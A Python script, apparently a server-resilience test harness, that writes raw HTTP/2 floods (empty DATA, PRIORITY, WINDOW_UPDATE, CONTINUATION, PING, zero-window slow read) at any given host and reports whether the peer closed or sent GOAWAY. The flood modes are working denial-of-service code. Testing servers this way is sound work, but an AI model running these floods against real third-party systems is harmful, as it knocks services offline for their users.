"""HTTP/2 frame floods, written frame by frame (hyperframe, hpack) so that nothing between
the script and the wire tidies them up.

h2_flood.py KIND HOST PORT COUNT

KIND is one of
  empty-data     one POST stream, then COUNT DATA frames with no payload and no END_STREAM
  priority       COUNT PRIORITY frames for streams never opened
  window-update  COUNT connection WINDOW_UPDATE frames, with no data received
  continuation   a HEADERS without END_HEADERS, then COUNT CONTINUATION frames of 16 KiB
  ping           COUNT PINGs, never reading the answers (for 10 s at most)
  good           COUNT GETs of / one after another, each read to its end (the control)
  zero-window    a window of 0 bytes, then GET /bytes/COUNT, never granting more, with a
                 PING every 0.5 s; for 20 s at most

Prints JSON: frames written before the peer stopped taking them, whether the peer closed the
connection, the GOAWAY error code if it sent one, and responses completed.
"""
import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def head_block(enc, host, method="GET", path="/"):
    return enc.encode(
        [(":method", method), (":scheme", "http"), (":authority", host), (":path", path)]
    )


def frames(kind, host, count):
    enc = Encoder()
    if kind == "empty-data":
        h = HeadersFrame(1, head_block(enc, host, "POST", "/upload"))
        h.flags.add("END_HEADERS")
        yield h
        for _ in range(count):
            yield DataFrame(1, b"")
    elif kind == "priority":
        for i in range(count):
            f = PriorityFrame(2 * (i % 1000) + 3)
            f.depends_on, f.stream_weight = 0, 16
            yield f
    elif kind == "window-update":
        for _ in range(count):
            yield WindowUpdateFrame(0, 1)
    elif kind == "continuation":
        yield HeadersFrame(1, head_block(enc, host))
        for _ in range(count):
            yield ContinuationFrame(1, b"\x00" * 16384)
    elif kind == "ping":
        for i in range(count):
            yield PingFrame(0, (i % 2**63).to_bytes(8, "big"))
    else:
        raise SystemExit(f"unknown kind {kind}")


class Reader:
    """Reads the server's frames as they come; notes GOAWAY and completed responses."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""
        self.closed, self.goaway, self.completed = False, None, 0

    def pump(self, wait):
        self.sock.settimeout(wait)
        try:
            data = self.sock.recv(65536)
        except (socket.timeout, BlockingIOError):
            return
        except (ConnectionResetError, BrokenPipeError):
            data = b""
        if not data:
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            f.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(f, GoAwayFrame):
                self.goaway = f.error_code
            if isinstance(f, (DataFrame, HeadersFrame)) and "END_STREAM" in f.flags:
                self.completed += 1
            if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack.serialize())

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False


def good(r, host, count):
    enc = Encoder()
    for i in range(count):
        h = HeadersFrame(2 * i + 1, head_block(enc, host))
        h.flags.add("END_HEADERS")
        h.flags.add("END_STREAM")
        if not r.send(h.serialize()):
            return
        deadline = time.monotonic() + 5
        while r.completed <= i and not r.closed and time.monotonic() < deadline:
            r.pump(0.5)
            # Grant back what the answer took, as a client that reads does.
            if not r.closed:
                r.send(WindowUpdateFrame(0, 65535).serialize())


def zero_window(r, host, count):
    """Asks for a body it never makes room for; reports when the peer gave up on it."""
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    h = HeadersFrame(1, head_block(Encoder(), host, "GET", f"/bytes/{count}"))
    h.flags.add("END_HEADERS")
    h.flags.add("END_STREAM")
    r.send(settings.serialize() + h.serialize())
    started = time.monotonic()
    while not r.closed and time.monotonic() - started < 20:
        r.pump(0.5)
        if not r.closed:
            r.send(PingFrame(0, b"stillhr!").serialize())
    return round(time.monotonic() - started, 3)


def main():
    kind, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    sock = socket.create_connection((host, port), timeout=10)
    r = Reader(sock)
    r.send(PREFACE + SettingsFrame(0).serialize())
    written = 0
    seconds = None
    if kind == "good":
        good(r, host, count)
    elif kind == "zero-window":
        seconds = zero_window(r, host, count)
    else:
        started = time.monotonic()
        sock.settimeout(10)
        # PINGs go out a thousand to a write, so the flood outruns the socket buffers.
        per_write = 1000 if kind == "ping" else 1
        pending, n = [], 0
        for f in frames(kind, host, count):
            pending.append(f.serialize())
            if len(pending) < per_write:
                continue
            if time.monotonic() - started > 10 or not r.send(b"".join(pending)):
                break
            written += len(pending)
            pending = []
            n += 1
            if kind != "ping" and n % 10 == 0:
                r.pump(0)
                if r.closed or r.goaway is not None:
                    break
    deadline = time.monotonic() + 5
    while not r.closed and time.monotonic() < deadline and kind != "ping":
        r.pump(0.5)
    print(
        json.dumps(
            {
                "written": written,
                "closed": r.closed,
                "goaway": r.goaway,
                "completed": r.completed,
                "seconds": seconds,
            }
        )
    )


if __name__ == "__main__":
    main()
